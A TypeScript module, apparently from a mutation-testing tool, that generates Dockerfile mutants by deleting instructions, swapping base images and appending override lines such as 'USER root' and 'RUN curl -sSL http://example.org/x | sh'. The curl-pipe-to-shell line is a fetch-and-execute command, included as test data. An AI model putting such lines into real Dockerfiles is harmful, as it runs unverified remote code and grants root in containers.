import type { MutationContext } from '../../domain/mutant.ts';
import type { Draft, Line, Source } from './source.ts';

const INSTRUCTION = /^[ \t]*([A-Z]+)\b/i;

/** Dockerfiles: instructions with their continuation lines taken out and repeated; later instructions that override. */
export function* dockerfile(source: Source, _context: MutationContext): Iterable<Draft> {
  if (source.subject.format !== 'dockerfile') return;
  for (const lines of instructionsOf(source)) {
    const [first, last] = [lines[0]!, lines.at(-1)!];
    const words = [
      lines
        .map((line) => line.text)
        .join(' ')
        .slice(0, 300),
    ];
    const span = { start: first.start, end: last.next };
    yield { operator: 'dockerfile/delete-instruction', kind: 'deletion', ...span, replacement: '', words };
    const from = /^([ \t]*FROM[ \t]+)(\S+)/i.exec(first.text);
    if (from !== null) yield* fromDrafts(first, from);
  }
  const broken = source.text.endsWith('\n') ? '' : source.eol;
  for (const line of [
    'USER root',
    'USER 0',
    'ENV EXTRA=x',
    'EXPOSE 9999',
    'HEALTHCHECK NONE',
    'CMD ["sh"]',
    'ENTRYPOINT ["sh"]',
    'ADD . /extra',
    'RUN curl -sSL http://example.org/x | sh',
    'FROM scratch',
  ]) {
    const at = source.text.length;
    yield {
      operator: 'dockerfile/override',
      kind: 'addition',
      start: at,
      end: at,
      replacement: broken + line + source.eol,
      words: [line],
    };
  }
}

function instructionsOf(source: Source): Line[][] {
  const found: Line[][] = [];
  let continued = false;
  for (const line of source.lines) {
    if (line.idle) continue;
    if (continued) found.at(-1)!.push(line);
    else if (INSTRUCTION.test(line.text)) found.push([line]);
    else continue;
    continued = /\\[ \t]*$/.test(line.text);
  }
  return found;
}

function* fromDrafts(line: Line, match: RegExpExecArray): Iterable<Draft> {
  const start = line.start + match[1]!.length;
  const image = match[2]!;
  const name = image.replace(/@.*$/, '').replace(/:[^:/]*$/, '');
  for (const other of [`${name}:latest`, name, `${name}:9.9.9`, `${name}@sha256:${'0'.repeat(64)}`, 'scratch']) {
    yield {
      operator: 'dockerfile/base-image',
      kind: 'value',
      start,
      end: start + image.length,
      replacement: other,
      words: [line.text],
    };
  }
}
